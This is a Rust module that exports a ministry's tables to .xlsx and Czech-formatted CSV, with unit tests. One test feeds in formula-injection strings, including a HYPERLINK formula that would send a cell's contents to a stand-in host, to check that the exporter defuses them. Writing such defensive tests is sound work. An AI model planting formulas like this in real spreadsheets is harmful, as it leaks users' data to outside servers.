//! Exports for the ministry's own spreadsheets: `.xlsx` with real number and date cells, Czech headers
//! and a frozen header row; `.csv` as Czech Excel opens it without a wizard (UTF-8 with BOM, `;`,
//! decimal comma, `31.12.2025`, CRLF).
//!
//! Amounts stay `Decimal` up to the file. An `.xlsx` number cell is by definition an IEEE double written
//! as decimal text, so the only conversion happens at the cell and is checked: the double's shortest
//! decimal form must be the amount itself (true for every amount up to 999 999 999 999,99 Kč, which has
//! at most 14 significant digits). An amount that would not survive (more than 15 significant digits,
//! beyond what Excel keeps) is written as text rather than altered.

use super::ServiceError;
use crate::domain::{format_czech_date, guard_formula, Money};
use chrono::NaiveDate;
use rust_decimal::Decimal;
use rust_xlsxwriter::{Format, FormatBorder, Workbook};
use std::str::FromStr;

/// A cell of an exported table.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Money(Money),
    /// A quantity (indicator value, count) with up to three decimals.
    Number(Decimal),
    /// A percentage, 0–100 (a fraction with a % format in xlsx; the number in CSV, the header says %).
    Percent(Decimal),
    Date(NaiveDate),
    /// A year (or another code-like whole number): a number, but written without a thousands separator
    /// (`2023`, never `2 023`).
    Year(i32),
    Empty,
}

impl From<&str> for Cell {
    fn from(s: &str) -> Self {
        Cell::Text(s.to_owned())
    }
}

impl From<String> for Cell {
    fn from(s: String) -> Self {
        Cell::Text(s)
    }
}

impl From<Option<NaiveDate>> for Cell {
    fn from(d: Option<NaiveDate>) -> Self {
        d.map_or(Cell::Empty, Cell::Date)
    }
}

/// A table: one sheet of an `.xlsx`, or one `.csv`.
#[derive(Debug, Clone, PartialEq)]
pub struct Table {
    /// Sheet name (at most 31 characters, none of `[]:*?/\`).
    pub name: String,
    pub headers: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

impl Table {
    #[must_use]
    pub fn new(name: &str, headers: &[&str]) -> Self {
        Self {
            name: name.to_owned(),
            headers: headers.iter().map(|h| (*h).to_owned()).collect(),
            rows: Vec::new(),
        }
    }
}

/// The double an `.xlsx` number cell holds for `d`, when its shortest decimal form is exactly `d`.
#[must_use]
pub fn excel_number(d: Decimal) -> Option<f64> {
    let f = f64::from_str(&d.to_string()).ok()?;
    let back = Decimal::from_str(&format!("{f}")).ok()?;
    (back == d).then_some(f)
}

fn xerr(e: rust_xlsxwriter::XlsxError) -> ServiceError {
    ServiceError::Unexpected(format!("xlsx export: {e}"))
}

/// Writes the tables as the sheets of one `.xlsx` workbook.
///
/// # Errors
/// Only if the writer fails (`Unexpected`).
pub fn xlsx(tables: &[Table]) -> Result<Vec<u8>, ServiceError> {
    let mut book = Workbook::new();
    let header = Format::new()
        .set_bold()
        .set_text_wrap()
        .set_border_bottom(FormatBorder::Thin);
    let money = Format::new().set_num_format("#,##0.00");
    let number = Format::new().set_num_format("#,##0.###");
    let percent = Format::new().set_num_format("0.0%");
    let date = Format::new().set_num_format("d. m. yyyy");
    let year = Format::new().set_num_format("0");
    for t in tables {
        let sheet = book.add_worksheet();
        sheet.set_name(&t.name).map_err(xerr)?;
        for (c, h) in t.headers.iter().enumerate() {
            let col = u16::try_from(c)
                .map_err(|_| ServiceError::Unexpected("too many columns".into()))?;
            sheet
                .write_string_with_format(0, col, h, &header)
                .map_err(xerr)?;
            let width = h.chars().count().clamp(10, 40);
            sheet
                .set_column_width(col, u32::try_from(width).unwrap_or(12))
                .map_err(xerr)?;
        }
        sheet.set_freeze_panes(1, 0).map_err(xerr)?;
        for (r, row) in t.rows.iter().enumerate() {
            let r = u32::try_from(r + 1)
                .map_err(|_| ServiceError::Unexpected("too many rows".into()))?;
            for (c, cell) in row.iter().enumerate() {
                let c = u16::try_from(c)
                    .map_err(|_| ServiceError::Unexpected("too many columns".into()))?;
                let numeric = |d: Decimal, f: &Format, sheet: &mut rust_xlsxwriter::Worksheet| {
                    match excel_number(d) {
                        Some(n) => sheet.write_number_with_format(r, c, n, f).map(|_| ()),
                        None => sheet
                            .write_string(r, c, crate::domain::format_decimal(d))
                            .map(|_| ()),
                    }
                };
                match cell {
                    // A string cell is never a formula; only a text that already starts with `'` is
                    // guarded, so that the importer's unguarding keeps it as it is.
                    Cell::Text(s) if s.starts_with('\'') => {
                        sheet.write_string(r, c, guard_formula(s)).map(|_| ())
                    }
                    Cell::Text(s) => sheet.write_string(r, c, s).map(|_| ()),
                    Cell::Money(m) => numeric(m.as_decimal(), &money, sheet),
                    Cell::Number(d) => numeric(*d, &number, sheet),
                    Cell::Percent(p) => {
                        numeric((*p / Decimal::ONE_HUNDRED).round_dp(6), &percent, sheet)
                    }
                    Cell::Date(d) => sheet
                        .write_datetime_with_format(r, c, *d, &date)
                        .map(|_| ()),
                    Cell::Year(y) => sheet
                        .write_number_with_format(r, c, f64::from(*y), &year)
                        .map(|_| ()),
                    Cell::Empty => Ok(()),
                }
                .map_err(xerr)?;
            }
        }
    }
    book.save_to_buffer().map_err(xerr)
}

/// A decimal with a decimal comma and no thousands separator (Czech Excel reads it as a number).
fn csv_decimal(d: Decimal) -> String {
    d.normalize().to_string().replace('.', ",")
}

fn csv_field(text: &str) -> String {
    if text.contains([';', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text.to_owned()
    }
}

/// A text cell: guarded against being run as a formula (see [`crate::domain::formula_guard`]), quoted.
fn csv_text(text: &str) -> String {
    csv_field(&guard_formula(text))
}

fn csv_cell(cell: &Cell) -> String {
    match cell {
        Cell::Text(s) => csv_text(s),
        Cell::Money(m) => m.as_decimal().round_dp(2).to_string().replace('.', ","),
        Cell::Number(d) => csv_decimal(*d),
        Cell::Percent(p) => csv_decimal(p.round_dp(1)),
        Cell::Date(d) => d.format("%-d.%-m.%Y").to_string(),
        Cell::Year(y) => y.to_string(),
        Cell::Empty => String::new(),
    }
}

/// Writes one table as CSV: UTF-8 with BOM, `;`, decimal comma, CRLF. Several tables go one below the
/// other, each under its name, separated by an empty line.
#[must_use]
pub fn csv(tables: &[Table]) -> String {
    let mut out = String::from("\u{feff}");
    for (i, t) in tables.iter().enumerate() {
        if tables.len() > 1 {
            if i > 0 {
                out.push_str("\r\n");
            }
            out.push_str(&csv_text(&t.name));
            out.push_str("\r\n");
        }
        out.push_str(
            &t.headers
                .iter()
                .map(|h| csv_text(h))
                .collect::<Vec<_>>()
                .join(";"),
        );
        out.push_str("\r\n");
        for row in &t.rows {
            out.push_str(&row.iter().map(csv_cell).collect::<Vec<_>>().join(";"));
            out.push_str("\r\n");
        }
    }
    out
}

/// A file name part from a registration number or title: ASCII letters, digits, `-` and `_` only.
#[must_use]
pub fn file_stem(text: &str) -> String {
    crate::domain::fold_for_search(text)
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '-' || c == '_' {
                c
            } else {
                '_'
            }
        })
        .collect()
}

/// A date for headers of exports (`31. 12. 2025`).
#[must_use]
pub fn date_label(d: NaiveDate) -> String {
    format_czech_date(d)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dec(s: &str) -> Decimal {
        Decimal::from_str(s).unwrap()
    }

    #[test]
    fn excel_numbers_keep_every_halir_up_to_a_trillion() {
        for s in [
            "0.01",
            "0.1",
            "0.3",
            "1234567.89",
            "999999999999.99",
            "-999999999999.99",
            "12.345",
        ] {
            let f = excel_number(dec(s)).unwrap_or_else(|| panic!("{s} must be exact"));
            assert_eq!(Decimal::from_str(&format!("{f}")).unwrap(), dec(s));
        }
        // 17 significant digits: a double cannot hold it, so it is refused (and written as text).
        assert_eq!(excel_number(dec("99999999999999.99")), None);
    }

    #[test]
    fn csv_is_what_czech_excel_opens() {
        let mut t = Table::new("Projekty", &["Název", "Částka", "Datum", "Plnění", "Rok"]);
        t.rows.push(vec![
            Cell::Text("A; \"B\"".into()),
            Cell::Money(Money::parse("1 234 567,89").unwrap()),
            Cell::Date(NaiveDate::from_ymd_opt(2025, 12, 31).unwrap()),
            Cell::Percent(dec("87.54")),
            Cell::Year(2023),
        ]);
        t.rows.push(vec![
            Cell::Money(Money::parse("0,1").unwrap()),
            Cell::Empty,
            Cell::Empty,
            Cell::Number(dec("12.500")),
            Cell::Empty,
        ]);
        let text = csv(&[t]);
        assert_eq!(
            text,
            "\u{feff}Název;Částka;Datum;Plnění;Rok\r\n\"A; \"\"B\"\"\";1234567,89;31.12.2025;87,5;2023\r\n0,10;;;12,5;\r\n"
        );
    }

    #[test]
    fn csv_text_that_starts_a_formula_gets_an_apostrophe_and_numbers_stay_numbers() {
        let mut t = Table::new("Projekty", &["Název", "Částka", "Množství"]);
        t.rows.push(vec![
            Cell::Text(r#"=HYPERLINK("http://x/?"&A1;"Detail")"#.into()),
            Cell::Money(Money::parse("-1 000,50").unwrap()),
            Cell::Number(dec("-3")),
        ]);
        t.rows.push(vec![
            Cell::Text("+420".into()),
            Cell::Text("-sleva".into()),
            Cell::Text("@SUM(A1)".into()),
        ]);
        t.rows.push(vec![
            Cell::Text("\tx".into()),
            Cell::Text("\rx".into()),
            Cell::Text("Nová etapa".into()),
        ]);
        assert_eq!(
            csv(&[t]),
            "\u{feff}Název;Částka;Množství\r\n\
             \"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"Detail\"\")\";-1000,50;-3\r\n\
             '+420;'-sleva;'@SUM(A1)\r\n\
             '\tx;\"'\rx\";Nová etapa\r\n"
        );
    }

    #[test]
    fn a_year_is_a_number_without_a_thousands_separator_in_xlsx() {
        use std::io::Read;
        let mut t = Table::new("Rozpočet", &["Rok", "Částka"]);
        t.rows
            .push(vec![Cell::Year(2023), Cell::Number(dec("2023"))]);
        let bytes = xlsx(&[t]).unwrap();
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let mut read = |name: &str| {
            let mut text = String::new();
            zip.by_name(name)
                .unwrap()
                .read_to_string(&mut text)
                .unwrap();
            text
        };
        let sheet = read("xl/worksheets/sheet1.xml");
        let styles = read("xl/styles.xml");
        // The style index of a cell (`<c r="A2" s="N"`), then that style's number format.
        let style = |cell: &str| -> usize {
            let at = sheet.find(&format!("<c r=\"{cell}\"")).unwrap();
            let rest = &sheet[at..];
            let s = rest.split(" s=\"").nth(1).unwrap();
            assert!(
                rest.find(" s=\"").unwrap() < rest.find('>').unwrap(),
                "{rest}"
            );
            s.split('"').next().unwrap().parse().unwrap()
        };
        let xfs = styles.split("<cellXfs").nth(1).unwrap();
        // The number format code of a style (built-in 1 is `0`).
        let format_of = |i: usize| -> String {
            let xf = xfs.split("<xf ").nth(i + 1).unwrap();
            let id = xf
                .split("numFmtId=\"")
                .nth(1)
                .unwrap()
                .split('"')
                .next()
                .unwrap();
            if id == "1" {
                return "0".into();
            }
            let custom = format!("<numFmt numFmtId=\"{id}\" formatCode=\"");
            styles
                .split(&custom)
                .nth(1)
                .unwrap()
                .split('"')
                .next()
                .unwrap()
                .to_owned()
        };
        assert!(
            sheet.contains("<v>2023</v>"),
            "a number, not a text: {sheet}"
        );
        // No thousands separator for the year; the quantity keeps its own format.
        assert_eq!(format_of(style("A2")), "0", "{styles}");
        assert_eq!(format_of(style("B2")), "#,##0.###");
    }

    #[test]
    fn file_stems_are_plain_ascii() {
        assert_eq!(
            file_stem("CZ.03.01.01/00/22_015/0002653"),
            "cz_03_01_01_00_22_015_0002653"
        );
        assert_eq!(file_stem("Věk není překážkou"), "vek_neni_prekazkou");
    }
}
